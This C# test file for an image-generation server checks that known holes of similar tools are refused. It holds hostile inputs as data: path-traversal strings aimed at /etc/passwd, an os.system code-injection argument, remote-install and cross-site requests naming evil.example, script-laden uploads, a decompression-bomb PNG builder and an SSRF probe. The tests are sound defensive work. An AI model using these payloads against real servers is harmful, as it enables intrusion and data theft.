using System.Net;
using System.Net.Sockets;
using System.Text;
using System.Text.Json;
using Pareidolia.Imaging;
using Pareidolia.Server.Uploads;
using Pareidolia.Tests.Pipelines;

namespace Pareidolia.Server.Tests.Safety;

/// <summary>Holes of this class of servers that were published, each as a test that tries it here.</summary>
public sealed class PublishedHoleTests
{
    // ComfyUI and the web UI took POST requests of any page a browser had open, and so ran workflows, changed options, installed extensions.
    [Theory]
    [InlineData("/sdapi/v1/options")]
    [InlineData("/sdapi/v1/txt2img")]
    [InlineData("/api/v1/jobs")]
    [InlineData("/v1/images/generations")]
    public async Task Cross_site_request_forgery_with_a_form_of_plain_text(string path)
    {
        await using TestStudio studio = await Start();
        using HttpRequestMessage request = new(HttpMethod.Post, path) { Content = new StringContent("""{"prompt": "a"}""", Encoding.UTF8, "text/plain") };
        request.Headers.Add("Origin", "https://evil.example");
        using HttpResponseMessage response = await studio.Client.SendAsync(request);
        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Equal(0, (await studio.Get("/api/v1/jobs")).GetProperty("items").GetArrayLength());
    }

    // A page whose name was re-pointed to 127.0.0.1 read what the local server answered.
    [Fact]
    public async Task Dns_rebinding()
    {
        await using TestStudio studio = await Start();
        _ = await studio.Json(HttpMethod.Get, "/api/v1/pictures", null, 403, ("Host", $"rebound.example:{studio.Client.BaseAddress!.Port}"));
    }

    // /file=/etc/passwd of Gradio (CVE-2023-51449 and its kin), /view?filename=../../x of ComfyUI, encoded in every way.
    [Theory]
    [InlineData("/file=/etc/passwd")]
    [InlineData("/file=../../../../etc/passwd")]
    [InlineData("/%2e%2e/%2e%2e/%2e%2e/etc/passwd")]
    [InlineData("/..%2f..%2f..%2fetc%2fpasswd")]
    [InlineData("/assets/..%2f..%2fstudio.db")]
    [InlineData("/assets/%5c..%5c..%5cstudio.db")]
    [InlineData("/view?filename=../../studio.db&type=output")]
    [InlineData("/view?filename=studio.db&subfolder=../..&type=input")]
    [InlineData("/api/v1/pictures/..%2f..%2fstudio.db/file")]
    [InlineData("/api/v1/pictures/%2e%2e%2f%2e%2e%2fstudio.db/film/0")]
    [InlineData("/api/v1/uploads/..%2fstudio.db")]
    [InlineData("/api/v1/jobs/..%2f..%2f..%2fetc%2fpasswd/preview")]
    [InlineData("/api/v1/jobs/..%2f..%2f..%2fetc%2fpasswd/metrics")]
    public async Task Path_traversal(string path)
    {
        await using TestStudio studio = await Start();
        string answer = await Raw(studio, $"GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n");
        Assert.Matches("^HTTP/1.1 (400|403|404)", answer);
        Assert.DoesNotContain("root:", answer, StringComparison.Ordinal);
        Assert.DoesNotContain("SQLite format", answer, StringComparison.Ordinal);
    }

    // A symbolic link in the data folder, or a name with the shape of none, gave other files.
    [Fact]
    public async Task What_is_not_the_id_of_a_picture_never_becomes_a_path()
    {
        await using TestStudio studio = await Start();
        string folder = studio.Part<Storage.DataFolder>().Uploads;
        await File.WriteAllTextAsync(Path.Combine(folder, "secret.png"), "secret");
        _ = await studio.Get("/api/v1/uploads/secret", 404);
        foreach (string id in (string[])["a", "0123456789abcdef0123456789abcdef-0/../x", "0123456789ABCDEF0123456789ABCDEF-0", "0123456789abcdef0123456789abcdef-0\n"])
            Assert.False(Server.Pictures.PictureId.IsOne(id));
    }

    // The web UI's --share opened a public tunnel whose address others guessed, with everything behind it.
    [Theory]
    [InlineData("/queue/join")]
    [InlineData("/queue/data")]
    [InlineData("/run/predict")]
    [InlineData("/config")]
    [InlineData("/startup-events")]
    public async Task Share_hijack_there_is_no_tunnel_and_nothing_of_gradio(string path)
    {
        await using TestStudio studio = await Start();
        using HttpResponseMessage response = await studio.Client.PostAsync(path, new StringContent("{}", Encoding.UTF8, "application/json"));
        Assert.True(response.StatusCode is HttpStatusCode.NotFound or HttpStatusCode.MethodNotAllowed);
        Assert.False((await studio.Get("/sdapi/v1/cmd-flags")).GetProperty("share").GetBoolean());
    }

    // Scripts, custom nodes and extensions are code; whoever could bring one ran it.
    [Theory]
    [InlineData("/sdapi/v1/txt2img", """{"prompt": "a", "script_name": "custom code", "script_args": ["import os; os.system('id')"]}""", 422)]
    [InlineData("/sdapi/v1/txt2img", """{"prompt": "a", "alwayson_scripts": {"controlnet": {"args": [{"image": "x"}]}}}""", 422)]
    [InlineData("/customnode/install", """{"files": ["https://evil.example/node.py"]}""", 404)]
    [InlineData("/customnode/install/git_url", "https://evil.example/node", 404)]
    [InlineData("/externalmodel/install", """{"url": "https://evil.example/model.ckpt"}""", 404)]
    public async Task Script_upload(string path, string body, int status)
    {
        await using TestStudio studio = await Start();
        using HttpResponseMessage response = await studio.Client.PostAsync(path, new StringContent(body, Encoding.UTF8, "application/json"));
        Assert.Contains((int)response.StatusCode, (int[])[status, 405]);
        Assert.Equal(0, (await studio.Get("/api/v1/jobs")).GetProperty("items").GetArrayLength());
    }

    // A page was uploaded as a "picture" and served from the tool's own address.
    [Theory]
    [InlineData("<html><script>alert(1)</script></html>")]
    [InlineData("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>")]
    [InlineData("import os")]
    public async Task An_upload_that_is_no_picture_is_refused_whatever_it_is_called(string text)
    {
        await using TestStudio studio = await Start();
        using ByteArrayContent content = new(Encoding.UTF8.GetBytes(text));
        content.Headers.ContentType = new("image/png");
        using HttpResponseMessage response = await studio.Client.PostAsync("/api/v1/uploads", content);
        Assert.Equal(HttpStatusCode.UnsupportedMediaType, response.StatusCode);
    }

    // What is hidden behind or inside a picture does not stay: the file is written anew.
    [Fact]
    public async Task An_upload_keeps_nothing_but_its_pixels()
    {
        await using TestStudio studio = await Start();
        Image image = new(8, 8);
        image.Texts["parameters"] = "<script>alert(1)</script>";
        byte[] file = [.. PngWriter.Encode(image), .. "<script>alert(2)</script>"u8];
        Upload upload = studio.Part<UploadStore>().Add(file);
        string kept = Encoding.Latin1.GetString(await studio.Client.GetByteArrayAsync(upload.Url));
        Assert.DoesNotContain("script", kept, StringComparison.Ordinal);
    }

    // A few kilobytes that become gigabytes.
    [Fact]
    public async Task A_decompression_bomb()
    {
        await using TestStudio studio = await Start();
        byte[] bomb = Bomb(60_000, 60_000);
        using HttpResponseMessage response = await studio.Client.PostAsync("/api/v1/uploads", new ByteArrayContent(bomb));
        Assert.Equal(HttpStatusCode.UnprocessableEntity, response.StatusCode);
        JsonElement problem = JsonElement.Parse(await response.Content.ReadAsStringAsync());
        Assert.Contains("60000x60000", problem.GetProperty("title").GetString(), StringComparison.Ordinal);
        _ = await studio.Post("/sdapi/v1/img2img", new { prompt = "a", init_images = new[] { Convert.ToBase64String(bomb) } }, 422);
    }

    // init_images and png-info with an address made the server fetch it: from the cloud's metadata, or the local network.
    [Fact]
    public async Task Server_side_request_forgery()
    {
        using TcpListener listener = new(IPAddress.Loopback, 0);
        listener.Start();
        string address = $"http://127.0.0.1:{((IPEndPoint)listener.LocalEndpoint).Port}/secret";
        await using TestStudio studio = await Start();
        _ = await studio.Post("/sdapi/v1/img2img", new { prompt = "a", init_images = new[] { address } }, 422);
        _ = await studio.Post("/sdapi/v1/png-info", new { image = address }, 422);
        Assert.False(listener.Pending(), "The server fetched the address.");
    }

    // Checkpoints are code where pickle loads them; here there is no way to bring one, and those that the operator has are read without running.
    [Theory]
    [InlineData("/upload/checkpoint")]
    [InlineData("/api/v1/models")]
    [InlineData("/sdapi/v1/sd-models")]
    public async Task A_checkpoint_cannot_be_uploaded(string path)
    {
        await using TestStudio studio = await Start();
        using HttpResponseMessage response = await studio.Client.PostAsync(path, new ByteArrayContent([0x80, 2]));
        Assert.True(response.StatusCode is HttpStatusCode.NotFound or HttpStatusCode.MethodNotAllowed);
    }

    [Fact]
    public async Task A_body_that_is_too_large_is_answered_413_with_a_sentence()
    {
        await using TestStudio studio = await TestStudio.Start(options => options with { MostBodyBytes = 1000 });
        JsonElement problem = await studio.Post("/api/v1/jobs", $"{{\"kind\": \"{new string('a', 2000)}\"}}", 413);
        Assert.Equal("The request is larger than this server reads.", problem.GetProperty("title").GetString());
    }

    private static Task<TestStudio> Start() => TestStudio.Start(options => options with { Models = [TinyModel.Lively] });

    // HttpClient tidies addresses up; a socket does not.
    private static async Task<string> Raw(TestStudio studio, string request)
    {
        using TcpClient client = new();
        await client.ConnectAsync("127.0.0.1", studio.Client.BaseAddress!.Port);
        await using NetworkStream stream = client.GetStream();
        await stream.WriteAsync(Encoding.ASCII.GetBytes(request));
        using StreamReader reader = new(stream, Encoding.Latin1);
        return await reader.ReadToEndAsync();
    }

    private static byte[] Bomb(int width, int height)
    {
        byte[] file = PngWriter.Encode(new Image(8, 8));
        System.Buffers.Binary.BinaryPrimitives.WriteInt32BigEndian(file.AsSpan(16), width);
        System.Buffers.Binary.BinaryPrimitives.WriteInt32BigEndian(file.AsSpan(20), height);
        System.Buffers.Binary.BinaryPrimitives.WriteUInt32BigEndian(file.AsSpan(29), Crc(file.AsSpan(12, 17)));
        return file;
    }

    private static uint Crc(ReadOnlySpan<byte> bytes)
    {
        uint crc = 0xFFFFFFFF;
        foreach (byte value in bytes)
        {
            crc ^= value;
            for (int i = 0; i < 8; i++)
                crc = (crc & 1) != 0 ? (crc >> 1) ^ 0xEDB88320 : crc >> 1;
        }
        return ~crc;
    }
}
